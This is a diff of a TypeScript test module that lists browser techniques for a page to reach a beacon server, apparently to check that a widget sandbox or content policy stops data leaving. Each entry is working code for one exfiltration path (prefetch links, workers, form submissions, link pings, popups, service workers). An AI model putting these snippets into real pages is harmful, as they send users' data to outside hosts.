@@ -3,8 +3,8 @@ export interface WayOut {
   readonly name: string;
   /** Code; `URL` is an address of the beacon server, `STUN` a list of STUN servers that note what they get. */
   readonly code: string;
-  /** Set where an unprotected page cannot try it: it would carry away the page that runs the tests. */
-  readonly uncontrolled?: boolean;
+  /** Its control runs in a page of its own, since it would carry away the page that runs the tests or needs a whole page. */
+  readonly alone?: boolean;
 }
 
 const append = (tag: string, properties: string, place = "body"): string =>
@@ -57,23 +57,15 @@ export const httpWaysOut: readonly WayOut[] = [
   { name: "prefetch", code: append("link", "{ rel: 'prefetch', href: URL }", "head") },
   { name: "preload", code: append("link", "{ rel: 'preload', as: 'image', href: URL }", "head") },
   { name: "module preload", code: append("link", "{ rel: 'modulepreload', href: URL }", "head") },
-  { name: "icon", code: append("link", "{ rel: 'icon', href: URL }", "head"), uncontrolled: true },
-  { name: "manifest", code: append("link", "{ rel: 'manifest', href: URL }", "head"), uncontrolled: true },
-  {
-    name: "speculation rules",
-    code: append(
-      "script",
-      "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [URL] }] }) }",
-    ),
-    uncontrolled: true,
-  },
+  { name: "icon", code: append("link", "{ rel: 'icon', href: URL }", "head"), alone: true },
+  { name: "manifest", code: append("link", "{ rel: 'manifest', href: URL }", "head"), alone: true },
   { name: "script", code: append("script", "{ src: URL }") },
   { name: "import()", code: "await import(URL);" },
   { name: "worker", code: "new Worker(self.URL.createObjectURL(new Blob([`fetch('${URL}')`])));" },
   {
     name: "shared worker",
-    code: "new SharedWorker('data:text/javascript,fetch(' + JSON.stringify(URL) + ')');",
-    uncontrolled: true,
+    code: "new SharedWorker('/attack/worker.js?' + URL);",
+    alone: true,
   },
   {
     name: "form",
@@ -82,8 +74,8 @@ export const httpWaysOut: readonly WayOut[] = [
   { name: "form with POST", code: form("method=post", "submit()") },
   { name: "form that is requested", code: form("", "requestSubmit()") },
   { name: "form of a button", code: form("", "querySelector('button').click()") },
-  { name: "form into a new window", code: form("target=_blank", "submit()"), uncontrolled: true },
-  { name: "form into the top window", code: form("target=_top", "submit()"), uncontrolled: true },
+  { name: "form into a new window", code: form("target=_blank", "submit()"), alone: true },
+  { name: "form into the top window", code: form("target=_top", "submit()"), alone: true },
   {
     name: "form with a javascript: address",
     code: "widget.root.innerHTML = `<form action=\"javascript:location='${URL}'\"></form>`; widget.root.querySelector('form').submit();",
@@ -123,24 +115,28 @@ export const httpWaysOut: readonly WayOut[] = [
     name: "ping of a link",
     code: "const a = Object.assign(document.createElement('a'), { href: '#x', ping: URL }); document.body.append(a); a.click();",
   },
-  { name: "popup", code: "open(URL);", uncontrolled: true },
+  { name: "popup", code: "open(URL);", alone: true },
   {
     name: "link to a new window",
     code: "const a = Object.assign(document.createElement('a'), { href: URL, target: '_blank' }); document.body.append(a); a.click();",
-    uncontrolled: true,
+    alone: true,
   },
   {
     name: "link to the top window",
     code: "const a = Object.assign(document.createElement('a'), { href: URL, target: '_top' }); document.body.append(a); a.click();",
-    uncontrolled: true,
+    alone: true,
   },
-  { name: "location of the top window", code: "top.location = URL;", uncontrolled: true },
+  { name: "location of the top window", code: "top.location = URL;", alone: true },
   {
     name: "download",
     code: "const a = Object.assign(document.createElement('a'), { href: URL, download: 'x' }); document.body.append(a); a.click();",
-    uncontrolled: true,
+    alone: true,
   },
-  { name: "service worker", code: "await navigator.serviceWorker.register(URL);", uncontrolled: true },
+  {
+    name: "service worker",
+    code: "await navigator.serviceWorker.register('/attack/worker.js?' + URL);",
+    alone: true,
+  },
 ];
 
 /** Ways out over UDP, past the policy, which does not know WebRTC. */
